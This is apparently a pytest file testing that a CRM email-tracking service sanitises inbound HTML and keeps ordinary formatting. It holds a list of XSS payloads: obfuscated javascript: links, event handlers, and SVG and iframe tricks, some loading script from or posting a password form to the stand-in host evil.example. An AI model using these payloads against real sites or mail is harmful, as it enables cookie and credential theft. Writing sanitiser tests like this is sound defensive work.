"""HTML written to CRM (email.description) is sanitised without losing ordinary formatting (issue 10).

Checked through plan_inbound (the TrackEmail.description it produces is what the service writes) and the
function it uses; the output is judged by an independent HTML parser (tests/security/html_checks.py).
"""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

import pytest

from core.domain import inbound, sanitize
from core.domain.inbound import InboundContext, TrackEmail, plan_inbound
from core.domain.model import (
    Address,
    CrmRecordRef,
    CrmTable,
    Folder,
    FolderKind,
    InboundMethod,
    MailboxConfig,
    MailboxKind,
    MailMessage,
    OrgEmailSettings,
    TrackingFilter,
)

from .html_checks import dangerous_parts, judge

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
ALICE = CrmRecordRef(CrmTable.SYSTEMUSER, uuid.UUID(int=1))
MAILBOX = MailboxConfig(address="alice@contoso.example", kind=MailboxKind.USER, owner=ALICE,
                        inbound_method=InboundMethod.INDIVIDUAL, tracking_filter=TrackingFilter.ALL)
ORG = OrgEmailSettings(internal_domains=frozenset({"contoso.example"}))


def description_of(html_body: str) -> str:
    message = MailMessage(mailbox=MAILBOX.address, graph_id="AAMk-1", folder=Folder(FolderKind.INBOX),
                          internet_message_id=f"<{uuid.uuid4()}@fabrikam.example>", subject="s",
                          from_=Address.of("Carol", "carol@fabrikam.example"),
                          to=(Address.of("Alice", MAILBOX.address),), received_at=NOW, body_html=html_body)
    plan = plan_inbound(message, InboundContext(mailbox=MAILBOX, org=ORG, now=NOW))
    assert isinstance(plan, TrackEmail), plan
    return plan.description


def test_plan_inbound_uses_the_sanitiser() -> None:
    assert inbound.sanitize_html is sanitize.sanitize_html
    marker = "<p>x</p><script>alert(1)</script>"
    assert description_of(marker) == sanitize.sanitize_html(marker)


ATTACKS: dict[str, str] = {
    "script": "<p>hi</p><script>alert(document.cookie)</script>",
    "script uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "style element": "<style>@import 'https://evil.example/x.css'; body{display:none}</style><p>x</p>",
    "style attribute expression": '<p style="width: expression(alert(1)); color: red">x</p>',
    "style url": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "onerror": '<img src="https://x.example/a.png" onerror="alert(1)">',
    "onclick mixed case": '<a href="https://x.example" OnClIcK="alert(1)">x</a>',
    "onmouseover unquoted": "<b onmouseover=alert(1)>x</b>",
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript entity-obfuscated": '<a href="jav&#x61;script&colon;alert(1)">x</a>',
    "javascript with tab": '<a href="jav\tascript:alert(1)">x</a>',
    "javascript leading space": '<a href=" javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data url link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data url image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": '<frameset><frame src="https://evil.example"></frameset>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "svg onload": "<svg onload=alert(1)><circle r=10></circle></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "math": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "comment trick": "<!--<img src=x onerror=alert(1)>--><p>x</p>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "body onload": '<body onload="alert(1)"><p>x</p></body>',
    "xml namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_removed(name: str) -> None:
    out = description_of(ATTACKS[name])
    assert dangerous_parts(out) == [], out


def test_script_and_style_content_is_dropped_not_shown_as_text() -> None:
    out = description_of("<p>keep</p><script>var secret='s3';</script><style>.x{color:red}</style>")
    assert "keep" in out and "secret" not in out and ".x{" not in out


def test_ordinary_formatting_survives() -> None:
    html = (
        '<p style="color: #333; font-weight: bold">Dear <b>Alice</b>, <i>thanks</i> <u>a lot</u>'
        '<strong>!</strong> <em>really</em></p>'
        "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>"
        '<table border="1"><thead><tr><th colspan="2">Head</th></tr></thead>'
        "<tbody><tr><td>a</td><td>b</td></tr></tbody></table>"
        '<a href="https://contoso.example/orders/1?x=1&amp;y=2">order</a> '
        '<a href="mailto:support@contoso.example">mail us</a>'
        '<img src="cid:image001.png@01D9A1B2.C3D4E5F0" alt="logo" width="120">'
        "<br><blockquote>quoted</blockquote><pre>code</pre><h1>Title</h1><hr>"
        '<font color="red" face="Arial">legacy</font><span>span</span><div>div</div>'
    )
    out = description_of(html)
    j = judge(out)
    assert j.problems == []
    for tag in ("p", "b", "i", "u", "strong", "em", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td",
                "a", "img", "br", "blockquote", "pre", "h1", "hr", "font", "span", "div"):
        assert tag in j.tags, f"<{tag}> was lost"
    links = {(t, a, v) for t, a, v in j.links}
    assert ("a", "href", "https://contoso.example/orders/1?x=1&y=2") in links
    assert ("a", "href", "mailto:support@contoso.example") in links
    assert ("img", "src", "cid:image001.png@01D9A1B2.C3D4E5F0") in links
    for text in ("Dear", "Alice", "thanks", "a lot", "one", "two", "three", "Head", "order", "quoted", "legacy"):
        assert text in out
    assert "color" in out  # harmless inline style kept


def test_links_get_noopener() -> None:
    out = description_of('<a href="https://contoso.example" target="_blank">x</a>')
    assert "noopener" in out and "noreferrer" in out


def test_plain_text_bodies_are_escaped() -> None:
    message = MailMessage(mailbox=MAILBOX.address, graph_id="AAMk-2", folder=Folder(FolderKind.INBOX),
                          internet_message_id="<t@fabrikam.example>", subject="s",
                          from_=Address.of("Carol", "carol@fabrikam.example"), to=(Address.of("", MAILBOX.address),),
                          received_at=NOW, body_text="<script>alert(1)</script>\nline 2")
    plan = plan_inbound(message, InboundContext(mailbox=MAILBOX, org=ORG, now=NOW))
    assert isinstance(plan, TrackEmail)
    assert dangerous_parts(plan.description) == []
    assert "&lt;script&gt;" in plan.description and "<br>" in plan.description


def test_omitted_attachment_note_escapes_file_names() -> None:
    from core.domain.model import Attachment

    evil = '<img src=x onerror=alert(1)>.pdf'
    message = MailMessage(mailbox=MAILBOX.address, graph_id="AAMk-3", folder=Folder(FolderKind.INBOX),
                          internet_message_id="<a@fabrikam.example>", subject="s",
                          from_=Address.of("Carol", "carol@fabrikam.example"), to=(Address.of("", MAILBOX.address),),
                          received_at=NOW, body_html="<p>x</p>",
                          attachments=(Attachment(evil, "application/pdf", 10, content=None),))
    plan = plan_inbound(message, InboundContext(mailbox=MAILBOX, org=ORG, now=NOW))
    assert isinstance(plan, TrackEmail) and plan.omitted_attachments
    assert dangerous_parts(plan.description) == []
